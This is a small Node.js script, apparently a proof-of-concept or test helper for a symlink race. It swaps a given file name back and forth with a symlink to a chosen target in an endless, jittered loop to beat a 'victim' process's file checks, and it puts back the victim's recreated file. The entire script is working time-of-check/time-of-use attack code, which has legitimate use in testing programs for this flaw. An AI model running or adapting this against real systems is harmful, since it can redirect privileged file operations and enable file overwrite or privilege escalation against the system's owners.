// Swaps a name for a link and back in a process of its own, where there is no C compiler: `node swap.mjs NAME TARGET`.
import { lstatSync, renameSync, symlinkSync } from 'node:fs'

const [name = '', target = ''] = process.argv.slice(2)
const real = `${name}.real`
const link = `${name}.link`

symlinkSync(target, link)
console.log('ready')
for (let round = 0; ; round += 1) {
  move(name, real)
  if (!move(link, name)) linkAgain()
  for (let spin = 0; spin < (round % 7) * 40; spin += 1);
  move(name, isLink(name) ? link : `${name}.aside${round}`)
  if (!move(real, name)) {
    // The victim has made the name anew meanwhile.
    move(name, `${name}.aside${round}`)
    move(real, name)
  }
}

/** @param {string} from @param {string} to */
function move(from, to) {
  try {
    renameSync(from, to)
    return true
  } catch {
    return false
  }
}

function linkAgain() {
  try {
    symlinkSync(target, link)
  } catch {
    // it is there
  }
}

/** @param {string} path */
function isLink(path) {
  return lstatSync(path, { throwIfNoEntry: false })?.isSymbolicLink() === true
}
